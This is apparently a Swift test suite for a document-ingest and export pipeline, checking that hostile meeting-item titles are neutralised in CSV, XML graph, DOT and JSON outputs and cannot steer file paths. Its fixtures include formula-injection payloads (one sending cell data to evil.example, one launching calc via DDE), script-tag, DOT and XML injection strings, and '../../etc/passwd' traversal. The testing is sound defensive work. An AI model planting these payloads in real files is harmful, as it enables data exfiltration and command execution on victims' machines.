import Foundation
import Testing
import ThemeMapExport
import ThemeMapIngest
import ThemeMapModel
import ThemeMapStore
import ThemeMapTestSupport

@testable import ThemeMapPipeline

/// Text from a hostile document flows through ingest and the store into every output format, and is
/// proven harmless by the programs people open the outputs with: Python's csv module, xmllint, Graphviz
/// and Python's json and XML parsers. Each tool-backed test is skipped only when the tool is missing.
@Suite struct InjectionTests {
  /// Titles a council page could carry, aimed at spreadsheets, XML, DOT, JSON, HTML and file paths.
  static let hostileTitles = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+SUM(1+1)", "-2+3", "@cmd|' /C calc'!A0",
    "=1+1", "</graphml><script>alert(1)</script>", "]]><!-- \"quoted\" 'apos' & amp;",
    "back\\slash \\\" \\n not a newline", "\"}; alert(1); {\"", "label=\"x\"]; evil [shape=box",
    "../../outside/escaped.csv", "comma, inside; 🚓 עברית \u{202E}override",
  ]

  static let hostileBody = "@Body =cmd ../../etc/passwd <b>"

  /// Ingests one document whose items carry the hostile titles.
  static func hostileStore() throws -> (StoreSnapshot, URL) {
    let folder = try Fixtures.temporaryDirectory("hostile")
    let file = folder.appendingPathComponent("hostile.txt")
    let page = GeneratedMinutes.page(
      body: hostileBody, items: hostileTitles.count, itemTitle: { hostileTitles[$0 - 1] })
    try Data(page.utf8).write(to: file)
    let store = try ThemeMapStore()
    let report = IngestStep(manifest: nil, workingDirectory: folder).run(files: [file], into: store)
    #expect(report.files.map(\.outcome) == [.inserted])
    let snapshot = try store.snapshot()
    #expect(snapshot.items.map(\.title) == hostileTitles)
    return (snapshot, folder)
  }

  static let python: String? = {
    let path = ProcessInfo.processInfo.environment["PATH"] ?? "/usr/bin:/bin"
    return path.split(separator: ":").map { "\($0)/python3" }.first {
      FileManager.default.isExecutableFile(atPath: $0)
    }
  }()

  static func which(_ name: String) -> String? {
    let path = ProcessInfo.processInfo.environment["PATH"] ?? "/usr/bin:/bin"
    return path.split(separator: ":").map { "\($0)/\(name)" }.first {
      FileManager.default.isExecutableFile(atPath: $0)
    }
  }

  /// Runs a tool with its output in files; returns status and standard output.
  static func run(_ tool: String, _ arguments: [String]) throws -> (status: Int32, out: String, err: String) {
    let logs = try Fixtures.temporaryDirectory("tool")
    defer { try? FileManager.default.removeItem(at: logs) }
    let out = logs.appendingPathComponent("out")
    let err = logs.appendingPathComponent("err")
    _ = FileManager.default.createFile(atPath: out.path, contents: nil)
    _ = FileManager.default.createFile(atPath: err.path, contents: nil)
    let process = Process()
    process.executableURL = URL(fileURLWithPath: tool)
    process.arguments = arguments
    process.standardOutput = try FileHandle(forWritingTo: out)
    process.standardError = try FileHandle(forWritingTo: err)
    process.standardInput = FileHandle.nullDevice
    try process.run()
    process.waitUntilExit()
    return (
      process.terminationStatus, (try? String(contentsOf: out, encoding: .utf8)) ?? "",
      (try? String(contentsOf: err, encoding: .utf8)) ?? ""
    )
  }

  /// Reads a CSV column with Python's csv module and returns the values, as JSON parsed back.
  static func pythonColumn(_ file: URL, _ column: String) throws -> [String] {
    let script = """
      import csv, json, sys
      with open(sys.argv[1], newline='', encoding='utf-8') as f:
          print(json.dumps([row[sys.argv[2]] for row in csv.DictReader(f, strict=True)]))
      """
    let result = try run(try python.orThrow("python3"), ["-c", script, file.path, column])
    #expect(result.status == 0, "\(result.err)")
    return try JSONDecoder().decode([String].self, from: Data(result.out.utf8))
  }

  @Test(.enabled(if: python != nil, "needs python3"))
  func csvCellsAreNeutralisedByDefaultAndRawOnRequestAndRoundTripThroughPython() throws {
    let (snapshot, folder) = try Self.hostileStore()
    defer { try? FileManager.default.removeItem(at: folder) }
    for neutralise in [true, false] {
      let out = folder.appendingPathComponent(neutralise ? "out" : "raw")
      try CSVExporter(neutralisesFormulas: neutralise).writeAll(snapshot, to: out)
      let titles = try Self.pythonColumn(out.appendingPathComponent("items.csv"), "title")
      let bodies = try Self.pythonColumn(out.appendingPathComponent("meetings.csv"), "body")
      let expected = Self.hostileTitles.map { title in
        neutralise && "=+-@\t\r".contains(title.first ?? " ") ? "'" + title : title
      }
      #expect(titles == expected)
      #expect(bodies == [neutralise ? "'" + Self.hostileBody : Self.hostileBody])
      if neutralise {
        // No cell a spreadsheet would run: nothing starts with a formula trigger.
        #expect(!titles.contains { "=+-@\t\r".contains($0.first ?? " ") })
      }
    }
  }

  /// A graph of the hostile document: items as nodes labelled by title, clustered by body, and the
  /// minutes as edge labels.
  static func graph(of snapshot: StoreSnapshot) -> Graph {
    let nodes = snapshot.items.map { item in
      GraphNode(
        id: item.title, label: item.title, cluster: hostileBody, attributes: ["note": .string(item.title)])
    }
    let edges = zip(snapshot.items, snapshot.items.dropFirst()).map { first, second in
      GraphEdge(
        id: "\(first.title)->\(second.title)", source: first.title, target: second.title,
        label: first.minutesText, attributes: ["note": .string(second.title)])
    }
    return Graph(
      name: hostileBody, directed: true, nodeAttributes: [GraphAttribute(name: "note", type: .string)],
      edgeAttributes: [GraphAttribute(name: "note", type: .string)], nodes: GraphNodes(nodes),
      edges: GraphEdges(edges))
  }

  @Test(.enabled(if: python != nil, "needs python3"))
  func xmlAndJSONGraphsKeepDocumentTextAsTextWhenParsed() throws {
    let (snapshot, folder) = try Self.hostileStore()
    defer { try? FileManager.default.removeItem(at: folder) }
    let graph = Self.graph(of: snapshot)
    // Python's XML parser: every node's label comes back exactly, and no element came from the text.
    let xmlScript = """
      import json, sys, xml.etree.ElementTree as ET
      root = ET.parse(sys.argv[1]).getroot()
      tags = sorted({el.tag.split('}')[-1] for el in root.iter()})
      labels = [el.get('label') for el in root.iter() if el.tag.endswith('}node') and el.get('label')]
      data = [el.text for el in root.iter() if el.tag.endswith('}data') and el.text]
      print(json.dumps({'tags': tags, 'labels': labels, 'data': data}))
      """
    struct Parsed: Decodable {
      var tags: [String]
      var labels: [String]
      var data: [String]
    }
    for format in [GraphFormat.graphml, .gexf] {
      let file = folder.appendingPathComponent("g.\(format.fileExtension)")
      try GraphWriter.write(graph, as: format, to: file)
      let result = try Self.run(try Self.python.orThrow("python3"), ["-c", xmlScript, file.path])
      #expect(result.status == 0, "\(format): \(result.err)")
      let parsed = try JSONDecoder().decode(Parsed.self, from: Data(result.out.utf8))
      #expect(!parsed.tags.contains("script") && !parsed.tags.contains("b"), "\(format): \(parsed.tags)")
      let seen = format == .gexf ? parsed.labels : parsed.data
      for title in Self.hostileTitles {
        #expect(seen.contains(title), "\(format): \(title) did not come back as text")
      }
    }
    let json = folder.appendingPathComponent("g.json")
    try GraphWriter.write(graph, as: .json, to: json)
    let jsonScript = """
      import json, sys
      g = json.load(open(sys.argv[1], encoding='utf-8'))
      print(json.dumps([n.get('label') for n in g['nodes']]))
      """
    let result = try Self.run(try Self.python.orThrow("python3"), ["-c", jsonScript, json.path])
    #expect(result.status == 0, "\(result.err)")
    #expect(try JSONDecoder().decode([String].self, from: Data(result.out.utf8)) == Self.hostileTitles)
  }

  @Test(.enabled(if: which("xmllint") != nil && which("dot") != nil, "needs xmllint and Graphviz dot"))
  func validatorsAcceptEveryGraphOfTheHostileDocument() throws {
    let (snapshot, folder) = try Self.hostileStore()
    defer { try? FileManager.default.removeItem(at: folder) }
    let graph = Self.graph(of: snapshot)
    for format in [GraphFormat.graphml, .gexf] {
      let file = folder.appendingPathComponent("g.\(format.fileExtension)")
      try GraphWriter.write(graph, as: format, to: file)
      let lint = try Self.run(
        try Self.which("xmllint").orThrow("xmllint"), ["--noout", "--nonet", file.path])
      #expect(lint.status == 0, "\(format): \(lint.err)")
    }
    let dotFile = folder.appendingPathComponent("g.gv")
    try GraphWriter.write(graph, as: .dot, to: dotFile)
    let dot = try Self.run(try Self.which("dot").orThrow("dot"), ["-Tjson0", dotFile.path])
    #expect(dot.status == 0 && dot.err.isEmpty, "\(dot.err)")
    // Graphviz sees exactly the nodes and edges written: no statement was smuggled in by a label.
    let drawn = try JSONSerialization.jsonObject(with: Data(dot.out.utf8)) as? [String: Any]
    let objects = drawn?["objects"] as? [[String: Any]] ?? []
    let nodes = objects.filter { $0["nodes"] == nil }  // clusters are objects with member nodes
    // Graphviz keeps a quoted ID's backslash escapes as written, so compare with them undone.
    let names = nodes.compactMap { $0["name"] as? String }.map {
      $0.replacingOccurrences(of: "\\\\", with: "\\")
    }
    #expect(Set(names) == Set(Self.hostileTitles))
    #expect((drawn?["edges"] as? [Any])?.count == Self.hostileTitles.count - 1)
  }

  @Test func namesFromDocumentsNeverChooseWhereAFileIsWritten() throws {
    let (snapshot, folder) = try Self.hostileStore()
    defer { try? FileManager.default.removeItem(at: folder) }
    let out = folder.appendingPathComponent("out")
    try CSVExporter().writeAll(snapshot, to: out)
    let everything = try FileManager.default.subpathsOfDirectory(atPath: folder.path).sorted()
    #expect(
      everything == [
        "hostile.txt", "out", "out/carry_over.csv", "out/items.csv", "out/meetings.csv", "out/mentions.csv",
        "out/recommendations.csv", "out/theme_timeline.csv", "out/theme_transitions.csv",
        "out/theme_trends.csv", "out/work_programme.csv",
      ])
    for name in Self.hostileTitles + [Self.hostileBody, "..", ".", "", "/", "C:\\Windows\\x", "a\u{0}b"] {
      let component = OutputFileName.component(from: name)
      #expect(!component.isEmpty && !component.hasPrefix(".") && !component.contains("/"))
      #expect(component.allSatisfy { $0.isASCII && ($0.isLetter || $0.isNumber || $0 == "-") })
      let url = try OutputFileName.url(for: name, extension: "csv", in: out)
      #expect(url.deletingLastPathComponent().standardizedFileURL.path == out.standardizedFileURL.path)
    }
    #expect(OutputFileName.component(from: "Panel A") != OutputFileName.component(from: "Panel-A"))
    #expect(OutputFileName.component(from: "Panel A") == OutputFileName.component(from: "Panel A"))
  }
}
